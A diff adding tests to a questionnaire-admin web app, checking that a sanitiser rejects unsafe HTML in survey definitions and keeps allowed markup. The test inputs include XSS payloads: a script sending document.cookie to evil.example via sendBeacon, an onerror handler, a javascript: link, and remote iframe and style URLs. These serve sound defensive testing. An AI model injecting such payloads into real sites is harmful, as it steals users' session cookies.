@@ -4,6 +4,8 @@
  * county's evaluation data file name or importer; file names in Content-Disposition cannot be
  * broken by a quote; the pre-filled template neutralises formula-like text.
  */
+import { readFile } from "node:fs/promises";
+import { fileURLToPath } from "node:url";
 import ExcelJS from "exceljs";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { listAudit } from "../../../db/repositories/audit";
@@ -13,9 +15,11 @@ import { action as schoolsImportAction } from "../../../app/routes/admin.campaig
 import { action as dataAction, loader as dataLoader } from "../../../app/routes/admin.campaigns.$campaignId.evaluation-data/route";
 import { loader as readinessLoader } from "../../../app/routes/admin.campaigns.$campaignId.counties.$countyId.readiness._index/route";
 import { loader as exportLoader } from "../../../app/routes/admin_.export.$campaignId.$file/route";
+import { action as publishAction } from "../../../app/routes/admin.questionnaires/route";
 import { makeTestServices, type TestServices } from "../../support/services";
 import { callAction, callLoader, makeAccount, roleCookies } from "./support";
 
+const ROOT = fileURLToPath(new URL("../../..", import.meta.url));
 let services: TestServices;
 let cookies: Awaited<ReturnType<typeof roleCookies>>;
 
@@ -164,5 +168,48 @@ describe("downloads", () => {
     const stored = values.filter((v) => names.some((n) => v.endsWith(n.trim())));
     expect(stored.length).toBeGreaterThanOrEqual(names.length);
     for (const v of stored) expect(v.startsWith("'")).toBe(true);
+  });
+});
+
+describe("questionnaire HTML", () => {
+  async function withNote(version: number, html: unknown, extra: Record<string, unknown> = {}): Promise<FormData> {
+    const v1 = JSON.parse(await readFile(`${ROOT}/surveys/social.v1.json`, "utf8")) as { pages: Array<{ elements: unknown[] }> } & Record<string, unknown>;
+    const [first, ...rest] = v1.pages;
+    const pages = [{ ...first, elements: [{ type: "html", name: "notice", html }, ...(first?.elements ?? [])] }, ...rest];
+    const f = new FormData();
+    f.append("file", new File([JSON.stringify({ ...v1, version, title: `社会卷第${String(version)}版`, pages, ...extra })], "social.json", { type: "application/json" }));
+    return f;
+  }
+  const stored = async () => (await services.db.selectFrom("survey_definitions").select(["version", "json"]).where("questionnaire_id", "=", "social").execute()).map((r) => ({ version: Number(r.version), json: r.json }));
+
+  it("refuses a definition whose html carries a script, an event handler, a javascript: link or a remote style, and stores nothing", async () => {
+    const before = await stored();
+    const bad = [
+      '<p>请如实填写</p><script>navigator.sendBeacon("https://evil.example", document.cookie)</script>',
+      '<img src="/x.png" onerror="alert(1)">',
+      { default: "<p>说明</p>", "zh-cn": '<a href="javascript:alert(1)">说明</a>' },
+      '<iframe src="https://evil.example/"></iframe>',
+      '<p style="background-image: url(https://evil.example/t.png)">说明</p>',
+    ];
+    for (const html of bad) {
+      const res = await callAction(services, publishAction, "/admin/questionnaires", { cookie: cookies.city, form: await withNote(3, html) });
+      expect(res.status).toBe(400);
+      const problems = (res.body as { problems: string[] }).problems;
+      expect(problems[0]).toMatch(/^问卷.*「notice」\.html(\.zh-cn)? 含有不允许的 HTML：/);
+      expect(problems.at(-1)).toMatch(/请删除上述内容后重新发布/);
+    }
+    const thanks = await callAction(services, publishAction, "/admin/questionnaires", { cookie: cookies.city, form: await withNote(3, "<p>说明</p>", { completedHtml: "<p>谢谢！</p><script>alert(1)</script>" }) });
+    expect(thanks.status).toBe(400);
+    expect((thanks.body as { problems: string[] }).problems[0]).toMatch(/completedHtml 含有不允许的 HTML：<script>/);
+    expect(await stored()).toEqual(before);
+    expect((await listAudit(services.db, { action: "definition_published", limit: 5 })).length).toBe(0);
+  });
+
+  it("publishes allowed markup, stored as the sanitiser wrote it", async () => {
+    const res = await callAction(services, publishAction, "/admin/questionnaires", { cookie: cookies.city, form: await withNote(3, '<h3>说明</h3><p style="color: #c00">匿名填写 &amp; 约5分钟</p><a href="https://jyj.example.gov.cn/" target="_blank">常见问题</a>') });
+    expect(res.status).toBe(200);
+    const row = (await stored()).find((r) => r.version === 3);
+    const json = JSON.parse(row?.json ?? "{}") as { pages: Array<{ elements: Array<{ name: string; html?: string }> }> };
+    expect(json.pages[0]?.elements[0]?.html).toBe('<h3>说明</h3><p style="color: #c00">匿名填写 &amp; 约5分钟</p><a href="https://jyj.example.gov.cn/" target="_blank" rel="noopener noreferrer">常见问题</a>');
   });
 });
